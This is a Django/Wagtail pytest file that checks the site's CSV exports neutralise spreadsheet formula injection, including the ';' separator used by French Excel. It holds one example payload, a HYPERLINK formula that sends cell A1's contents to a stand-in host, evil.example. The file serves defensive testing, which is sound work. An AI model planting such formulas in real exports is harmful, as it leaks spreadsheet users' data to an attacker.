"""No CSV the site writes lets a spreadsheet evaluate a formula typed by a
visitor or an editor, the ";" of French Excel included."""

import csv
import io

import pytest
from wagtail.models import Locale
from wagtail.users.models import UserProfile

from access.roles import TRANSLATORS
from programme.exports import csv_safe
from programme.models import Theme
from site_config.csv_safety import neutralise
from tests.factories import make_member

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("Atelier;=1+1", "Atelier;'=1+1"),
        ("Atelier; =HYPERLINK(x)", "Atelier; '=HYPERLINK(x)"),
        ("Atelier; données", "Atelier; données"),
        ("Plain text", "Plain text"),
        (None, ""),
        (42, "42"),
    ],
)
def test_formulas_are_neutralised(value, expected):
    assert neutralise(value) == expected
    assert csv_safe(value) == expected  # the public exports use the same rule


def test_the_translation_report_export_neutralises_formulas(client):
    Theme.objects.create(locale=Locale.get_default(), name=HYPERLINK, colour="red")
    Theme.objects.create(locale=Locale.get_default(), name="Thème;=1+1", colour="blue")
    translator = make_member(TRANSLATORS, "translator")
    profile = UserProfile.get_for_user(translator)
    profile.preferred_language = "en"
    profile.save()
    client.force_login(translator)
    response = client.get("/admin/translation-status/", {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert "Thème;'=1+1" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
